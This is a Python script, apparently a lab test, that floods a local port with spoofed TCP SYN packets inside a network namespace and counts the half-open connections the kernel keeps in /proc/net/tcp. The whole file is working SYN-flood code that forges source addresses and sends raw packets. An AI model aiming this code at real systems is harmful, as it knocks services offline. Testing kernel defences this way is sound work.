"""syn_flood.py PORT SECONDS: SYNs from addresses that never answer, as fast as they go; then how many were sent and how
many connections the kernel had half open. Needs root and a network namespace with 10.66.0.0/16 (see run)."""
import random
import socket
import struct
import sys
import time


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(port):
    source, target = bytes([10, 66, random.randrange(256), random.randrange(2, 255)]), bytes([127, 0, 0, 1])
    words = [random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 65535]
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20)
    segment = struct.pack("!HHIIBBHHH", *words, checksum(pseudo + struct.pack("!HHIIBBHHH", *words, 0, 0)), 0)
    head = struct.pack("!BBHHHBBH", 0x45, 0, 40, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0)
    return head + source + target + segment


def half_open(port):
    with open("/proc/net/tcp") as file:
        return sum(1 for line in file if f":{port:04X} " in line.split(" rem_address")[0] and " 03 " in line)


def main():
    port, end = int(sys.argv[1]), time.monotonic() + float(sys.argv[2])
    packets = [syn(port) for _ in range(4000)]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, most = 0, 0
    while time.monotonic() < end:
        for packet in packets:
            raw.sendto(packet, ("127.0.0.1", 0))
        sent += len(packets)
        most = max(most, half_open(port))
    print(sent, max(most, half_open(port)))


main()
